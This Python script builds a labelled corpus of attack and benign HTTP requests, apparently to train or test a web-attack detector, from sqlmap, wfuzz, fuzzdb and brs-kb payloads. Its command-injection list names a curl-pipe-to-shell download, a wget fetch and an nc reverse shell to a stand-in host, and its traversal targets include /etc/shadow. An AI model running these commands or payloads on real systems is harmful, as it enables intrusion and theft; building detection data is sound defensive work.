#!/usr/bin/env python3
"""Builds attack.jsonl and benign.jsonl from the sources listed in SOURCES.md.

Run from this directory after fetching the sources into SRC (default /tmp/corp):
  pip download --no-deps sqlmap==1.10.10 fake-useragent==2.2.0 faker==40.54.0 brs-kb==4.0.2
  apt-get download wfuzz=3.1.0-2
and unpacking them as the paths below expect. The output is deterministic (fixed seeds), so
a rebuild from the same sources reproduces the committed files byte for byte.

Each output line is one request: {"category", "source", "uri", "user_agent"}.
"""
import json
import os
import random
import string
import sys
import urllib.parse
import xml.etree.ElementTree as ET

SRC = os.environ.get("SRC", "/tmp/corp")
WFUZZ = f"{SRC}/wf/usr/share/wfuzz/wordlist"
FUZZDB = f"{SRC}/fuzzdb"
SQLMAP = f"{SRC}/sqlmap/sqlmap/data/xml"
BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def lines(path):
    with open(path, encoding="utf-8", errors="replace") as f:
        return [l.rstrip("\r\n") for l in f if l.strip() and not l.startswith("#")]


def q(value):
    return urllib.parse.quote(value, safe="")


def attack(category, source, value, param="q", path="/search"):
    return {"category": category, "source": source,
            "uri": f"{path}?{param}={q(value)}", "user_agent": BROWSER_UA}


def sqlmap_payloads(rng):
    """Each sqlmap test payload once, inside a boundary sqlmap itself would use (level <= 2)."""
    bounds = [
        (b.findtext("prefix") or "", b.findtext("suffix") or "")
        for b in ET.parse(f"{SQLMAP}/boundaries.xml").getroot().iter("boundary")
        if int(b.findtext("level")) <= 2
    ]
    fill = {
        "[SLEEPTIME]": "5", "[DELIMITER_START]": "qkvzq", "[DELIMITER_STOP]": "qpjbq",
        "[INFERENCE]": "5310=5310", "[QUERY]": "SELECT USER()", "[GENERIC_SQL_COMMENT]": "-- -",
        "[ORIGVALUE]": "1", "[ORIGINAL]": "1", "[CHAR]": "NULL", "[DELAYED]": "SLEEP(5)",
        "[COLSTART]": "", "[COLSTOP]": "", "[UNION]": "UNION ALL SELECT NULL",
        "[SPACE_REPLACE]": " ", "[AT_REPLACE]": "@", "[DOLLAR_REPLACE]": "$",
        "[HASH_REPLACE]": "#",
    }
    out = []
    for name in sorted(os.listdir(f"{SQLMAP}/payloads")):
        for test in ET.parse(f"{SQLMAP}/payloads/{name}").getroot().iter("test"):
            payload = test.findtext("request/payload")
            if not payload:
                continue
            comment = test.findtext("request/comment") or ""
            prefix, suffix = rng.choice(bounds)
            s = f"1{prefix} {payload}{comment} {suffix}".rstrip()
            for k, v in fill.items():
                s = s.replace(k, v)
            while "[RANDNUM" in s:
                i = s.index("[RANDNUM")
                s = s[:i] + str(rng.randint(1000, 9999)) + s[s.index("]", i) + 1:]
            while "[RANDSTR" in s:
                i = s.index("[RANDSTR")
                s = s[:i] + "".join(rng.choices(string.ascii_letters, k=4)) + s[s.index("]", i) + 1:]
            out.append((f"sqlmap 1.10.10 data/xml/payloads/{name}", s))
    return out


def xss_payloads(rng):
    sys.path.insert(0, f"{SRC}/brs")
    import brs_kb  # noqa: E402
    items = [p for p in brs_kb.get_all_payloads().values()
             if (p.get("contexts") or [None])[0] in ("html_content", "html_attribute")]
    picked = sorted({p["payload"] for p in items if "\n" not in p["payload"]})
    return [("brs-kb 4.0.2 (html_content, html_attribute contexts)", p)
            for p in rng.sample(picked, 600)]


# Default User-Agent strings of scanners, as each tool sends them (tool source or docs).
SCANNERS = [
    "sqlmap/1.10.10#pip (https://sqlmap.org)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Wfuzz/3.1.0",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; Netsparker)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Netsparker",
    "Mozilla/5.0 (compatible; OpenVAS-VT 22.4)",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus",
    "Nessus SOAP",
    "w3af.org",
    "Mozilla/5.0 (compatible; Arachni/v1.5.1)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0 (ZAP)",
    "Mozilla/5.0 (compatible; Qualys)",
    "commix/v3.8 (https://commixproject.com)",
    "Havij",
    "BSQLBF 2.7",
    "JDatabaseDriverMysqli",
    "Mozilla/5.0 (compatible; Jorgee)",
    "Xenu Link Sleuth/1.3.8",
    "dirb/2.22",
    "feroxbuster/2.10.4",
    "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)",
    "Mozilla/5.0 (compatible; WhatWeb/0.5.5; +https://morningstarsecurity.com/research/whatweb)",
    "WhatWeb/0.5.5",
    "python-requests/2.31.0 sqlmap",
    "Mozilla/5.0 (compatible; Wapiti/3.1.8)",
    "Skipfish/2.10b",
    "Mozilla/5.0 SF/2.10b (skipfish)",
]

FORM_FIELDS = ["q", "search", "name", "first_name", "last_name", "email", "address", "city",
               "company", "title", "comment", "message", "subject", "phone", "website",
               "job", "note", "query", "text", "description"]


def benign(rng):
    from faker import Faker  # noqa: E402
    Faker.seed(20261123)
    fakers = [Faker(l) for l in ("en_US", "en_GB", "en_IE", "fr_FR", "de_DE", "es_ES", "it_IT",
                                 "nl_NL", "pt_BR", "pl_PL", "ja_JP", "zh_CN", "ru_RU", "tr_TR")]
    makers = [
        lambda f: f.name(), lambda f: f.first_name(), lambda f: f.last_name(),
        lambda f: f.email(), lambda f: f.address(), lambda f: f.city(), lambda f: f.company(),
        lambda f: f.catch_phrase(), lambda f: f.sentence(), lambda f: f.text(200),
        lambda f: f.paragraph(), lambda f: f.job(), lambda f: f.phone_number(),
        lambda f: f.url(), lambda f: f.street_address(), lambda f: f.date(),
        lambda f: f.bs(), lambda f: f.word(),
    ]
    paths = lines(f"{WFUZZ}/general/common.txt")
    with open(f"{SRC}/fake_useragent/fake_useragent/data/browsers.jsonl") as fh:
        uas = sorted({json.loads(l)["useragent"] for l in fh})
    with open(os.path.join(os.path.dirname(__file__), "benign-handwritten.txt"), encoding="utf-8") as fh:
        tricky = [l.rstrip("\n") for l in fh if l.strip() and not l.startswith("#")]
    out = []
    for i in range(3000):
        f = rng.choice(fakers)
        path = "/" + rng.choice(paths)
        params = []
        for _ in range(rng.randint(0, 3)):
            value = rng.choice(tricky) if rng.random() < 0.1 else rng.choice(makers)(f)
            params.append(f"{rng.choice(FORM_FIELDS)}={q(value)}")
        uri = path + ("?" + "&".join(params) if params else "")
        out.append({"category": "benign",
                    "source": "see SOURCES.md",
                    "uri": uri, "user_agent": rng.choice(uas)})
    return out


def main():
    rng = random.Random(20261123)
    attacks = []
    # SQL injection: what sqlmap sends. (wfuzz's SQL lists are probes such as a lone quote or
    # "having", which are not attacks on their own.) Each test twice, in two boundaries.
    for _ in range(2):
        for src, v in sqlmap_payloads(rng):
            attacks.append(attack("sqli", src, v, "id", "/item"))
    for v in lines(f"{WFUZZ}/Injections/XSS.txt"):
        attacks.append(attack("xss", "wfuzz 3.1.0 Injections/XSS.txt", v))
    for src, v in xss_payloads(rng):
        attacks.append(attack("xss", src, v))
    for v in lines(f"{WFUZZ}/Injections/Traversal.txt"):
        attacks.append(attack("traversal", "wfuzz 3.1.0 Injections/Traversal.txt", v, "file", "/download"))
    targets = ["etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "proc/self/environ"]
    for v in rng.sample(lines(f"{WFUZZ}/vulns/dirTraversal.txt"), 300):
        attacks.append(attack("traversal", "wfuzz 3.1.0 vulns/dirTraversal.txt",
                              v.replace("{FILE}", rng.choice(targets)), "file", "/download"))
    for v in lines(f"{FUZZDB}/command-execution-unix.txt"):
        attacks.append(attack("cmdi", "fuzzdb attack/os-cmd-execution/command-execution-unix.txt", v, "host", "/ping"))
    cmds = ["id", "whoami", "cat /etc/passwd", "uname -a", "sleep 5", "ping -c 3 127.0.0.1",
            "wget http://203.0.113.7/x.sh", "curl http://203.0.113.7/x|sh", "nc -e /bin/sh 203.0.113.7 4444",
            "ls -la /"]
    # The bare "{cmd}" template is left out: a lone "id" or "whoami" is not an attack on its own.
    templates = [t for t in lines(f"{FUZZDB}/command-injection-template.txt") if t != "{cmd}"]
    for t in templates:
        for c in rng.sample(cmds, 4):
            attacks.append(attack("cmdi", "fuzzdb attack/os-cmd-execution/command-injection-template.txt",
                                  t.replace("{cmd}", c), "host", "/ping"))
    for ua in SCANNERS:
        attacks.append({"category": "scanner", "source": "scanner default User-Agent (see SOURCES.md)",
                        "uri": "/", "user_agent": ua})
    seen = set()
    with open("attack.jsonl", "w", encoding="utf-8") as out:
        for a in attacks:
            key = (a["uri"], a["user_agent"])
            if key not in seen:
                seen.add(key)
                out.write(json.dumps(a, ensure_ascii=False) + "\n")
    with open("benign.jsonl", "w", encoding="utf-8") as out:
        for b in benign(rng):
            out.write(json.dumps(b, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    sys.exit(main())
